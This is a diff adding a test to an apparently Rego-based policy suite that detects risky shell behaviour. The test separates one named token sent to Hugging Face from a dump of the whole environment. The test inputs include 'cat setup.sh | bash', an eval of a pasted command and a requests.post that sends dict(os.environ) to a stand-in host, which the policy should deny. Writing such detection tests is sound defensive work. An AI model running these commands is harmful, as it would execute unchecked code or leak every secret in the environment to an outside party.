@@ -64,3 +64,10 @@ test_other_dynamic_code_is_no_clipboard if {
 	not ids(sh_input({"dynamic_code": [dyn("stdin", "cat setup.sh | bash")]}))["shell/clipboard-exec"]
 	not ids(sh_input({"dynamic_code": [dyn("variable", "eval \"$PBPASTE_CMD\"")]}))["shell/clipboard-exec"]
 }
+
+test_one_named_secret_in_a_request_is_not_the_whole_environment if {
+	u := {"program": "python3", "target": "https://huggingface.co/api/whoami-v2", "source": "<sent secret HF_TOKEN>", "evidence": "requests.get(URL, params={'t': os.environ['HF_TOKEN']})"}
+	not ids(sh_input({"uploads": [u]}))["shell/environment-exfiltration"]
+	w := {"program": "python3", "target": "https://x.example.net/e", "source": "<environment>", "evidence": "requests.post(URL, json=dict(os.environ))"}
+	ids(sh_input({"uploads": [w]}))["shell/environment-exfiltration"] == "deny"
+}
